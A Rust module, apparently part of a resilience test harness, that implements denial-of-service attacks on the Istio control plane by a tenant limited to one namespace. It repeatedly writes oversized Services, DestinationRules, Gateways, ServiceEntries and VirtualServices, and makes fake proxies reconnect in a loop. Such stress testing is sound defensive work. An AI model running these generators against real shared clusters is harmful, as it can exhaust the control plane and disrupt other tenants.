//! Attacks of a tenant who may write one namespace only, and whose proxies connect.

use std::{fs, path::Path, time::Duration};

use istiod::proto::envoy::service::discovery::v3::DiscoveryRequest;

use super::{
    Target,
    port::{AdsStream, LISTENER, ROUTE, request},
};

/// The number of subsets of each rule, and the number of rules.
const SUBSETS: usize = 3900;
const RULES: usize = 21;
/// The numbers of servers and of TLS routes.
const SERVERS: usize = 256;
const ROUTES: usize = 256;
/// The numbers of ports of a Service, and of routes of connections to each.
const LISTENER_PORTS: usize = 100;
const CONNECTION_ROUTES: usize = 9_000;
/// The number of hosts of a VirtualService, and the size of the body that its only route answers with.
const HOSTS: usize = 9_000;
const BODY: usize = 1_000_000;
/// The numbers of addresses, ports and endpoints of a ServiceEntry.
const ADDRESSES: usize = 256;
const PORTS: usize = 256;
const ENDPOINTS: usize = 4096;
/// The numbers of subsets and of ports of a rule for a service with many ports.
const PORT_SUBSETS: usize = 1000;
const SERVICE_PORTS: usize = 20;
const PORT_SETTINGS: usize = 4096;
/// The numbers of labels that failover compares, of subsets for which it does (each counts twice with such a policy),
/// and of endpoints that it orders.
const FAILOVER_LABELS: usize = 256;
const FAILOVER_SUBSETS: usize = 500;
const ORDERED_ENDPOINTS: usize = 4_000;
/// The number of endpoints of which one belongs to the subsets.
const SUBSET_SHARE: usize = 100;

/// The node of a sidecar of the tenant.
const SIDECAR: &str = "sidecar~10.0.0.9~t.tenant~tenant.svc.cluster.local";
/// The file that the tenant writes.
const FILE: &str = "tenant.yaml";

/// Rules with thousands of subsets of services that all namespaces see. They change every second.
pub(super) async fn many_subsets(target: Target) {
    rewrite(&target.mesh, |round| {
        let rules = (0..RULES).map(|rule| {
            let subset = |subset| format!("{{name: s{subset}, labels: {{v: \"{round}\"}}}}");
            let subsets: Vec<String> = (0..SUBSETS).map(subset).collect();
            format!(
                "apiVersion: v1\nkind: Service\nmetadata: {{name: t{rule}, namespace: tenant}}\n\
                 spec: {{clusterIP: 10.97.0.{}, selector: {{app: t}}, ports: [{{name: http, port: 80}}]}}\n---\n\
                 apiVersion: networking.istio.io/v1\nkind: DestinationRule\n\
                 metadata: {{name: t{rule}, namespace: tenant}}\n\
                 spec: {{host: t{rule}, subsets: [{}]}}\n---\n",
                rule + 1,
                subsets.join(", ")
            )
        });
        rules.collect::<Vec<_>>().concat()
    })
    .await;
}

/// A rule with as many settings for ports as the API server admits, whose subsets have a cluster for each port of the
/// service. They change every second.
pub(super) async fn many_port_settings(target: Target) {
    rewrite(&target.mesh, |round| {
        let ports = list(SERVICE_PORTS, |port| {
            format!("{{name: tcp-{port}, port: {}}}", port + 1)
        });
        let settings = list(PORT_SETTINGS, |port| {
            let pool = format!("{{tcp: {{maxConnections: {}}}}}", round + 1);
            format!("{{port: {{number: {}}}, connectionPool: {pool}}}", PORT_SETTINGS - port)
        });
        let subsets = list(PORT_SUBSETS, |subset| format!("{{name: s{subset}, labels: {{v: x}}}}"));
        format!(
            "apiVersion: v1\nkind: Service\nmetadata: {{name: t, namespace: tenant}}\n\
             spec: {{clusterIP: 10.97.0.1, selector: {{app: t}}, ports: [{ports}]}}\n---\n\
             apiVersion: networking.istio.io/v1\nkind: DestinationRule\n\
             metadata: {{name: t, namespace: tenant}}\n\
             spec: {{host: t, subsets: [{subsets}], trafficPolicy: {{portLevelSettings: [{settings}]}}}}\n"
        )
    })
    .await;
}

/// A rule whose failover compares as many labels as it may for each port and subset. Neither proxies nor endpoints have
/// them. It changes every second.
pub(super) async fn many_failover_labels(target: Target) {
    rewrite(&target.mesh, |round| {
        let labels = list(FAILOVER_LABELS, |label| format!("l{label}"));
        let endpoints = list(ORDERED_ENDPOINTS, |endpoint| {
            let version = if endpoint % SUBSET_SHARE == 0 { "x" } else { "other" };
            let address = format!("10.99.{}.{}", endpoint / 256, endpoint % 256);
            format!("{{address: {address}, labels: {{v: {version}}}}}")
        });
        let ports = list(SERVICE_PORTS, |port| {
            format!("{{number: {}, name: tcp-{port}, protocol: TCP}}", port + 1)
        });
        let subsets = list(FAILOVER_SUBSETS, |subset| {
            format!("{{name: s{subset}, labels: {{v: x}}}}")
        });
        format!(
            "apiVersion: networking.istio.io/v1\nkind: ServiceEntry\nmetadata: {{name: t, namespace: tenant}}\n\
             spec: {{hosts: [t.example], resolution: STATIC, ports: [{ports}], endpoints: [{endpoints}]}}\n---\n\
             apiVersion: networking.istio.io/v1\nkind: DestinationRule\n\
             metadata: {{name: t, namespace: tenant}}\n\
             spec: {{host: t.example, subsets: [{subsets}], \
             trafficPolicy: {{outlierDetection: {{consecutive5xxErrors: {}}}, \
             loadBalancer: {{localityLbSetting: {{failoverPriority: [{labels}]}}}}}}}}\n",
            round + 1
        )
    })
    .await;
}

/// A Gateway with many servers, and a VirtualService whose routes apply to each of them. They change every second, and
/// gateways of the tenant connect again and again.
pub(super) async fn many_chains(target: Target) {
    let first = request(
        "router~10.0.0.8~edge.tenant~tenant.svc.cluster.local",
        LISTENER,
        Vec::new(),
    );
    let connects = connect(&target, first);
    let writes = rewrite(&target.mesh, |round| {
        let server = |server| {
            format!(
                "  - {{port: {{number: {}, name: tls-{server}, protocol: TLS}}, hosts: [\"*.example\"], \
                 tls: {{mode: PASSTHROUGH}}}}\n",
                20_000 + server
            )
        };
        let route = |route| {
            format!(
                "  - {{match: [{{sniHosts: [r{round}-{route}.example]}}], route: [{{destination: {{host: web}}}}]}}\n"
            )
        };
        let (servers, routes): (Vec<_>, Vec<_>) =
            ((0..SERVERS).map(server).collect(), (0..ROUTES).map(route).collect());
        format!(
            "apiVersion: networking.istio.io/v1\nkind: Gateway\nmetadata: {{name: edge, namespace: tenant}}\n\
             spec:\n  servers:\n{}---\n\
             apiVersion: networking.istio.io/v1\nkind: VirtualService\nmetadata: {{name: tls, namespace: tenant}}\n\
             spec:\n  hosts: [\"*.example\"]\n  gateways: [edge]\n  tls:\n{}",
            servers.concat(),
            routes.concat()
        )
    });
    tokio::join!(connects, writes);
}

/// A ServiceEntry whose endpoints count for each of its ports and addresses. Its host changes every second.
pub(super) async fn many_endpoints(target: Target) {
    rewrite(&target.mesh, |round| {
        let addresses = list(ADDRESSES, |address| format!("10.98.0.{address}"));
        let ports = list(PORTS, |port| {
            format!("{{number: {}, name: tcp-{port}, protocol: TCP}}", 20_000 + port)
        });
        let endpoints = list(ENDPOINTS, |endpoint| {
            format!("{{address: 10.99.{}.{}}}", endpoint / 256, endpoint % 256)
        });
        format!(
            "apiVersion: networking.istio.io/v1\nkind: ServiceEntry\nmetadata: {{name: t, namespace: tenant}}\n\
             spec: {{hosts: [r{round}.example], resolution: STATIC, addresses: [{addresses}], ports: [{ports}], \
             endpoints: [{endpoints}]}}\n"
        )
    })
    .await;
}

/// A Service with many ports, and a VirtualService whose routes of connections apply to each of them. They change every
/// second, and sidecars of the tenant connect again and again.
pub(super) async fn many_listeners(target: Target) {
    let connects = connect(&target, request(SIDECAR, LISTENER, Vec::new()));
    let writes = rewrite(&target.mesh, |round| {
        let port = |port: usize| format!("{{name: tcp-{port}, port: {}}}", 20_000 + port);
        let ports: Vec<String> = (0..LISTENER_PORTS).map(port).collect();
        let route = |route: usize| {
            let subnet = format!("10.{}.{}.{}", round % 256, route / 256, route % 256);
            format!("  - {{match: [{{destinationSubnets: [{subnet}]}}], route: [{{destination: {{host: t}}}}]}}\n")
        };
        let routes: Vec<String> = (0..CONNECTION_ROUTES).map(route).collect();
        format!(
            "apiVersion: v1\nkind: Service\nmetadata: {{name: t, namespace: tenant}}\n\
             spec: {{clusterIP: 10.97.0.1, selector: {{app: t}}, ports: [{}]}}\n---\n\
             apiVersion: networking.istio.io/v1\nkind: VirtualService\nmetadata: {{name: t, namespace: tenant}}\n\
             spec:\n  hosts: [t]\n  tcp:\n{}",
            ports.join(", "),
            routes.concat()
        )
    });
    tokio::join!(connects, writes);
}

/// A VirtualService with many hosts, each of which repeats a route with a large body. It changes every second, and
/// sidecars of the tenant connect again and again.
pub(super) async fn large_routes(target: Target) {
    let connects = connect(&target, request(SIDECAR, ROUTE, vec!["80".to_owned()]));
    let writes = rewrite(&target.mesh, |round| {
        let (hosts, body) = (list(HOSTS, |host| format!("h{host}.tenant")), "b".repeat(BODY));
        format!(
            "apiVersion: networking.istio.io/v1\nkind: VirtualService\nmetadata: {{name: t, namespace: tenant}}\n\
             spec:\n  hosts: [{hosts}]\n  http: [{{directResponse: {{status: {}, body: {{string: {body}}}}}}}]\n",
            200 + round % 100
        )
    });
    tokio::join!(connects, writes);
}

/// Connects as a proxy with this first request, again and again.
async fn connect(target: &Target, first: DiscoveryRequest) {
    loop {
        if let Ok(mut client) = target.attackers.client().await
            && let Ok(mut stream) = AdsStream::requesting(&mut client, first.clone()).await
        {
            let _ = stream.response().await;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Returns the items of a list in flow style.
fn list(count: usize, item: impl Fn(usize) -> String) -> String {
    (0..count).map(item).collect::<Vec<_>>().join(", ")
}

/// Writes the objects of each round.
async fn rewrite(mesh: &Path, objects: impl Fn(usize) -> String) {
    for round in 0.. {
        let written = fs::write(mesh.join(FILE), objects(round));
        written.expect("target/ is writable");
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
}
